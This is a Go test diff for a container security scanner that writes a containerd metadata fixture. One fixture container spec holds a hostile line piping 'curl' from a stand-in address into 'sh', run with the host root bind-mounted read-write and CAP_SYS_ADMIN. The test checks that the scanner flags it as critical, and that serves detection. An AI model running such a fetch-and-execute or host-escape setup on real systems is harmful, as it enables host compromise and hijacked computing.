@@ -2,6 +2,7 @@ package linux
 
 import (
 	"context"
+	"encoding/binary"
 	"os"
 	"path/filepath"
 	"strings"
@@ -10,6 +11,7 @@ import (
 	"github.com/snapscan/snapscan/fsread/dirfs"
 	"github.com/snapscan/snapscan/report"
 	"github.com/snapscan/snapscan/scanner/check"
+	bolt "go.etcd.io/bbolt"
 )
 
 // copyFixture puts artifact/docker's fixture (written in moby's layout) into
@@ -164,4 +166,70 @@ func jsonf(format string, args ...string) string {
 		format = strings.Replace(format, "%s", a, 1)
 	}
 	return format
+}
+
+// containerd's meta.db, written with the bbolt library in containerd's
+// layout: a privileged CRI container with / bound rw running a miner, beside
+// nginx with a read-only content bind; and a truncated copy.
+func TestContainersContainerd(t *testing.T) {
+	root := t.TempDir()
+	dir := filepath.Join(root, "var/lib/containerd/io.containerd.metadata.v1.bolt")
+	os.MkdirAll(dir, 0o755)
+	db, err := bolt.Open(filepath.Join(dir, "meta.db"), 0o600, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	anySpec := func(js string) []byte {
+		b := []byte{0x0a, 5}
+		b = append(b, "types"...)
+		b = append(b, 0x12)
+		b = binary.AppendUvarint(b, uint64(len(js)))
+		return append(b, js...)
+	}
+	specs := map[string][2]string{
+		"miner": {"docker.io/library/alpine:latest", `{"process":{"args":["chroot","/host","sh","-c","curl -fsSL http://198.51.100.7/x.sh | sh"],"capabilities":{"bounding":["CAP_SYS_ADMIN"]}},
+"mounts":[{"destination":"/host","type":"bind","source":"/","options":["rbind","rw"]}],"linux":{"namespaces":[{"type":"mount"}]}}`},
+		"web": {"docker.io/library/nginx:1.25", `{"process":{"args":["nginx","-g","daemon off;"],"capabilities":{"bounding":["CAP_CHOWN"]}},
+"mounts":[{"destination":"/usr/share/nginx/html","type":"bind","source":"/srv/www","options":["rbind","ro"]}],"linux":{"namespaces":[{"type":"pid"},{"type":"network"},{"type":"mount"}]}}`},
+	}
+	err = db.Update(func(tx *bolt.Tx) error {
+		v1, _ := tx.CreateBucket([]byte("v1"))
+		ns, _ := v1.CreateBucket([]byte("k8s.io"))
+		cb, _ := ns.CreateBucket([]byte("containers"))
+		for id, s := range specs {
+			b, _ := cb.CreateBucket([]byte(id))
+			b.Put([]byte("image"), []byte(s[0]))
+			b.Put([]byte("spec"), anySpec(s[1]))
+			lb, _ := b.CreateBucket([]byte("labels"))
+			lb.Put([]byte("io.kubernetes.container.name"), []byte(id))
+		}
+		return nil
+	})
+	db.Close()
+	if err != nil {
+		t.Fatal(err)
+	}
+	s := runContainers(t, root)
+	byName := map[string]report.Finding{}
+	for _, f := range s.findings {
+		byName[strings.SplitN(f.Evidence.Match, " ", 2)[0]] = f
+	}
+	if f := byName["miner"]; f.Rule != "container.host-root-miner" || f.Severity != report.Critical || f.Evidence.Path != "/var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db" {
+		t.Errorf("containerd miner: %s %s %+v", f.Rule, f.Severity, f.Evidence)
+	}
+	if f, ok := byName["web"]; ok {
+		t.Errorf("containerd nginx: %s %s", f.Rule, f.Severity)
+	}
+	if len(s.errs) != 0 || len(s.inv) != 2 {
+		t.Errorf("errors %v, inventory %d", s.errs, len(s.inv))
+	}
+	// Truncated: an error naming meta.db, no panic, Docker state still read.
+	p := filepath.Join(dir, "meta.db")
+	data, _ := os.ReadFile(p)
+	os.WriteFile(p, data[:len(data)/2], 0o600)
+	copyFixture(t, root, "var/lib/docker", "nginx")
+	s = runContainers(t, root)
+	if len(s.errs) != 1 || !strings.Contains(s.errs[0], "meta.db") || len(s.inv) != 1 {
+		t.Errorf("truncated meta.db: errors %v, inventory %d", s.errs, len(s.inv))
+	}
 }
